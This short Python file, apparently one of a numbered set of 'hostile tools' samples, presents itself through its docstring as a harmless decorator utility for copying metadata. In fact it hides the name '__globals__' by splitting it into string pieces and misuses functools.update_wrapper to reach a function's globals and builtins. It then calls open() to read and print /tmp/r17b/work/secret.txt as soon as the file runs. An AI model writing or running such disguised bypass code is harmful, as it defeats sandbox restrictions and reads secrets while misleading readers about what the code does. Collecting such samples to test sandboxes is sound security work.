# family: setattr (written blind, round 17 of blind hostile tools)
"""Decorator utility that copies metadata."""
import functools
import textwrap
from types import SimpleNamespace

_META = ("_" * 2 + "glo" + "bals" + "_" * 2,)


def copy_meta(src):
    ns = SimpleNamespace()
    functools.update_wrapper(ns, src, assigned=_META, updated=())
    return ns


def demo():
    ns = copy_meta(textwrap.fill)
    (g,) = [v for v in ns.__dict__.values() if isinstance(v, dict)]
    return g["__builtins__"]["open"]("/tmp/r17b/work/secret.txt").read()


print(demo())
